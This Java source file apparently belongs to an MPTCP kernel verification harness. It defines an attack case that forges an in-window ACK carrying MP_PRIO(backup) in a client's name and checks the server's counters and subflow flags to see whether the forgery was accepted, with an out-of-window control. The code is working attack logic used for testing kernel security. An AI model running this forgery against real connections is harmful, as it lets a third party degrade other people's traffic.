package org.mptcpverify.kernel;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.OptionalInt;
import org.mptcpverify.wire.MptcpOption;

/**
 * mp-prio-forge: the attacker forges, in the client's name and inside the initial subflow's
 * window, an ACK carrying MP_PRIO(backup) (RFC 8684 3.3.8 gives MP_PRIO no authenticator).
 * Success: the server kernel counts it (`MPTcpExtMPPrioRx`) and flags the subflow as backup
 * requested by the peer (`ss` MPTCP subflow flag B), although the client asked for nothing.
 * Control: the same segment half the sequence space out of the window.
 */
public final class MpPrioForge implements KernelAttack {
    @Override
    public Profile profile() {
        return new Profile("mp-prio-forge", "PathManagerIntegrity", OUT_OF_WINDOW);
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        CapturedConnection c = ctx.connection();
        String peer = c.client().getHostAddress() + ":" + c.clientPort();
        String flagsBefore = flags(ctx, peer);
        ctx.tap().send(Topology.SERVER_MAC, Forge.inWindowOrControl(ctx, true, new MptcpOption.MpPrio(true, OptionalInt.empty())));
        ctx.note("attacker: sent ACK + MP_PRIO(backup) as the client on the initial subflow"
                + (ctx.wrongKeys() ? ", sequence number out of the window" : ", in window"));
        long deadline = System.nanoTime() + 2_000_000_000L;
        String flagsAfter = flags(ctx, peer);
        while (!flagsAfter.contains("B") && System.nanoTime() < deadline) {
            PathManager.sleep(100);
            flagsAfter = flags(ctx, peer);
        }
        ctx.note("server ss, subflow with " + peer + ": MPTCP flags before " + flagsBefore + ", after " + flagsAfter
                + " (B: backup requested by the peer)");
        Map<String, Long> delta = ctx.serverCounterDelta();
        ctx.note("server MIB counters changed: " + delta);
        return delta.getOrDefault("MPTcpExtMPPrioRx", 0L) >= 1 && !flagsBefore.contains("B") && flagsAfter.contains("B");
    }

    /** The server's `ss` MPTCP subflow flags of the subflow with {@code peer}, or "none". */
    private static String flags(AttackContext ctx, String peer) throws IOException {
        List<String> lines = Ss.established(ctx.topology().server(), ctx.connection().client(), ctx.connection().clientPort());
        return lines.stream().filter(l -> l.contains("tcp-ulp-mptcp")).findFirst()
                .map(l -> l.replaceAll(".*tcp-ulp-mptcp flags:(\\S+).*", "$1")).orElse("none");
    }
}
